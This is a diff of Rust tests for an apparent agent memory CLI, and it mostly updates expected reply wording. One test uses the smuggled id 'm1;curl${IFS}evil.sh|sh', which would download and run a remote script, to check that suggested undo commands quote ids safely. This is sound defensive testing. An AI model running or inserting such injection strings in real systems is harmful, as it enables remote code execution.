@@ -50,7 +50,7 @@ fn what_is_forgotten_is_in_no_answer_until_it_is_brought_back() {
         assert_eq!(found(&world).len(), 2);
         let short = old.split_at(old.len() - 8).1;
         let said = world.agent_knowledge(&["forget", short, "--reason", "it never helped"]).done();
-        assert!(said.contains("forgotten, its log keeps it"), "{said}");
+        assert!(said.contains("forgotten, but kept in its log"), "{said}");
         assert_eq!(found(&world), std::slice::from_ref(&new));
         let briefing = world.agent_knowledge(&["context", "--repo", REPO]).done();
         assert!(!briefing.contains("daemon"), "{briefing}");
@@ -189,12 +189,15 @@ fn what_is_saved_twice_is_one_memory_and_by_another_voice_is_evidence() {
     assert!(first.starts_with("Saved as "), "{first}");
     let again = save("s1", &lesson);
     assert!(
-        again.starts_with("Saved already as ") && again.contains("nothing was written"),
+        again.starts_with("Already saved as ") && again.contains("nothing was written"),
         "{again}"
     );
     assert_eq!(world.log_lines(LOG).len(), 1);
     let other = save("s2", &lesson);
-    assert!(other.starts_with("Known as ") && other.contains("learned again"), "{other}");
+    assert!(
+        other.starts_with("Already known as ") && other.contains("recorded as confirmed"),
+        "{other}"
+    );
     let id = world.events(LOG)[0].id.to_string();
     assert_eq!(shown(&world, &id)["verdicts"], json!({"confirmed": 1}));
     let mut more = lesson.clone();
@@ -319,10 +322,10 @@ fn an_id_stands_quoted_in_the_commands_that_replies_offer() {
     let id = "m1;curl${IFS}evil.sh|sh";
     lines(&world, &[line(id, "2026-01-01", "codex", "error", "walrus build hangs: restart it")]);
     let said = world.agent_knowledge(&["forget", id]).done();
-    assert!(said.contains(&format!("forget --undo '{id}' takes that back")), "{said}");
+    assert!(said.contains(&format!("undo with forget --undo '{id}'.")), "{said}");
     lines(&world, &[line("-m2", "2026-01-01", "codex", "error", "walrus build hangs: wait")]);
     let said = world.agent_knowledge(&["forget", "--", "-m2"]).done();
-    assert!(said.contains("forget --undo -- '-m2' takes that back"), "{said}");
+    assert!(said.contains("undo with forget --undo -- '-m2'."), "{said}");
     world.agent_knowledge(&["forget", "--undo", "--", "-m2"]).done();
 }
 
@@ -584,7 +587,7 @@ fn a_judge_that_fails_or_gives_orders_changes_nothing() {
     assert_eq!(found_with(&world, "walrus gateway port").len(), 3);
     // Of pairs that share a memory only the first is settled in one run.
     let said = judge("cat > /dev/null; echo '{\"decision\":\"keep_both\"}'").done();
-    assert!(said.contains("; done") && said.contains("left for the next time"), "{said}");
+    assert!(said.contains("; done") && said.contains("skipped: another decision"), "{said}");
 }
 
 // S-LIFE-12
